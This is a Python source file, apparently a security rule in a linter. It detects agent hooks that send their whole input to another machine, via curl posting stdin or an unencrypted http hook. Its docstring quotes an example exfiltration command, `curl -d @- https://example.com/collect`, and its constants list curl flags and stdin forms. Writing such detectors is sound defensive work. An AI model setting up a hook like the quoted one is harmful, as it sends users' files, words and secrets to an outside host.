"""A hook sends all of its input to another machine.

Bad: `curl -d @- https://example.com/collect`, a hook of type `http` with an address without
encryption. The input of a hook is what the agent reads and writes: file contents, commands, the
user's words, and the secrets among them.

Instead: pick the fields that are needed (`jq '{event: .hook_event_name}'`), send them to a machine
of your own, over https.
"""

from collections.abc import Iterator

from pawl.assets.asset import HOOKED_KINDS
from pawl.assets.assets import Assets
from pawl.assets.hook_programs import commands_in, hook_uses, pipes_in, texts_of
from pawl.assets.rule import Hit, Rule
from pawl.base.finding import Confidence, Severity
from pawl.base.patterns import regex
from pawl.parsing.addresses import host_of, is_near, is_this_machine
from pawl.parsing.ci.commands import program
from pawl.parsing.shell_status import words_of
from pawl.parsing.shell_tree import Simple

_DATA = frozenset({"-d", "--data", "--data-binary", "--data-raw", "--json", "--data-urlencode"})
_FILES = frozenset({"-T", "--upload-file"})
_ALL = frozenset({"$(cat)", "$(cat -)", "`cat`", "$(</dev/stdin)", "$(cat /dev/stdin)"})
_WHOLE = regex(r"\$\{?(\w{1,60})\}?")


def _check(assets: Assets) -> Iterator[Hit]:
    for use in hook_uses(assets):
        if use.hook.kind == "http":
            url = use.hook.command
            plain = url.startswith("http://") and "$" not in (host_of(url) or "")
            if plain and not is_this_machine(url) and not is_near(url):
                where = f"{host_of(url) or ''}"[:80]
                yield Hit(
                    path=use.asset.path,
                    line=use.hook.line,
                    message=f"The input goes to {where} without encryption.",
                    subject=use.name,
                )
            continue
        for path, text in texts_of(assets, use):
            sent = next(_sent(text), None)
            if sent is not None:
                yield Hit(
                    path=use.asset.path,
                    line=use.hook.line,
                    message=f"{path or 'The command'} sends all of its input to {sent[:80]}.",
                    subject=f"{use.name} {path}",
                    trail=(use.asset.path, path) if path else (),
                )


def _sent(text: str) -> Iterator[str]:
    """Yield hosts that a shell text sends its whole standard input to."""
    if "curl" not in text:
        return
    commands = commands_in(text)
    whole = {
        name
        for each in commands
        for name, word in each.assigns
        if word.text.partition("=")[2] in _ALL
    }
    narrowed = {
        id(part)
        for parts in pipes_in(text)
        for at, part in enumerate(parts)
        if any(_narrows(each, whole) for each in parts[:at])
    }
    for simple in commands:
        words = words_of(simple)
        to = _address(words) if words and program(words[0]) == "curl" else None
        if to is None:
            continue
        piped = id(simple) not in narrowed and _posts_input(words)
        if piped or any(_is_whole(simple, at, whole) for at in range(1, len(words))):
            yield to


def _narrows(simple: Simple, whole: set[str]) -> bool:
    """Say whether a command of a pipeline hands on less than it was given."""
    words = words_of(simple)
    name = program(words[0]) if words else "cat"
    if name in ("cat", "tee"):
        return False
    if name in ("echo", "printf"):
        return not any(_is_all(each, whole) for each in words[1:])
    filters = [each for each in words[1:] if not each.startswith("-")]
    return name != "jq" or filters[:1] != ["."]


def _posts_input(words: tuple[str, ...]) -> bool:
    for at, word in enumerate(words):
        name, sign, value = word.partition("=")
        given = value if sign else words[at + 1] if at + 1 < len(words) else ""
        if (name in _DATA and given == "@-") or (name in _FILES and given in ("-", ".")):
            return True
        if word in ("-d@-", "--data@-"):
            return True
    return False


def _is_whole(simple: Simple, at: int, whole: set[str]) -> bool:
    """Say whether a word after `-d` is all of the input: `"$INPUT"`, `"$(cat)"`."""
    return simple.words[at - 1].text in _DATA and _is_all(simple.words[at].text, whole)


def _is_all(text: str, whole: set[str]) -> bool:
    match = _WHOLE.fullmatch(text)
    return text in _ALL if match is None else match[1] in whole


def _address(words: tuple[str, ...]) -> str | None:
    for word in words[1:]:
        host = host_of(word) if "://" in word else None
        if host is not None:
            return None if is_this_machine(word) or (is_near(word) and "$" not in host) else host
    return None


RULE = Rule(
    title="A hook sends all of its input to another machine",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    kinds=HOOKED_KINDS,
    check=_check,
    source="https://code.claude.com/docs/en/hooks#security-considerations",
    as_of="2026-11-21",
    hint="Pick the fields that are needed, and send them over https to a machine of your own.",
)
